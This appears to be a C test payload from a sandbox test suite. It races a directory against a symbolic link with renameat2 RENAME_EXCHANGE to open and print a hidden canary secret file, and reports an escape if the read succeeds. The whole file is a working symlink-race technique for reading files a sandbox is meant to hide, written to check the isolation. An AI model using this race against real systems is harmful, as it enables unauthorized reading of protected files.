/* SPDX-License-Identifier: Apache-2.0 */
/* A directory is swapped for a link to the hidden one while it is walked. */
#include "payload.h"

PAYLOAD("race a directory against a symbolic link", "--timeout 60s", "exit 0");

static volatile int stop;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop)
		syscall(SYS_renameat2, AT_FDCWD, "/tmp/race/dir", AT_FDCWD, "/tmp/race/link", 2 /* RENAME_EXCHANGE */);
	return NULL;
}

int main(void)
{
	char hidden[256], buf[64];
	pthread_t thread;
	int fd;

	snprintf(hidden, sizeof(hidden), "%s", canary("CANARY_SECRET"));
	*strrchr(hidden, '/') = '\0';
	setup(mkdir("/tmp/race", 0755));
	setup(mkdir("/tmp/race/dir", 0755));
	setup(symlink(hidden, "/tmp/race/link"));
	pthread_create(&thread, NULL, flip, NULL);
	for (int i = 0; i < 10000; i++) {
		fd = open("/tmp/race/dir/secret", O_RDONLY);
		if (fd >= 0) {
			ssize_t n = read(fd, buf, sizeof(buf));

			write(1, buf, n > 0 ? (size_t)n : 0);
			escaped("the hidden file was opened");
		}
	}
	stop = 1;
	pthread_join(thread, NULL);
	return 0;
}
